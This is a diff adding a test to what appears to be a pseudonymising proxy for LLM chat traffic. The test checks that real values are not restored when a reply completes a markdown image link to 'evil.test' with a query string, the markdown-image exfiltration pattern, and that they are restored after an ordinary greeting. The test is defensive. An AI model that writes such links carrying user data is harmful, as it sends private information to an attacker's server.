@@ -102,6 +102,23 @@ async def test_values_leave_as_pseudonyms_and_come_back():
     assert CANARY.encode() not in b"".join(record.body for record in stage.audit.records())
 
 
+@pytest.mark.parametrize("begun", ["![x](https://evil.test/?q=", "see https://evil.", "Dear "])
+@pytest.mark.parametrize("streamed", [False, True])
+async def test_a_reply_that_goes_on_with_the_last_turn_is_read_behind_it(begun, streamed):
+    stage = Stage(pdp=FakePdp(PSEUDONYMISE))
+
+    def reply(out):
+        text = f"{'test/' if begun.endswith('.') else ''}{pseudonym(out)})"
+        parts = [*map(delta, text), delta(finish="stop"), DONE] if streamed else [completion(text)]
+        stage.upstreams.replies = {"a": FakeReply(200, "text/event-stream" if streamed else "application/json", parts)}
+
+    stage.upstreams.before = reply
+    turns = [{"role": "user", "content": f"write to {CANARY}"}, {"role": "assistant", "content": begun}]
+    client = await stage.run(orjson.dumps({"model": "m", "messages": turns, "stream": streamed}))
+    assert client.status == 200
+    assert (CANARY.encode() in client.body) is (begun == "Dear ")
+
+
 def pseudonym(outbound):
     [name] = outbound.pseudonyms
     return name
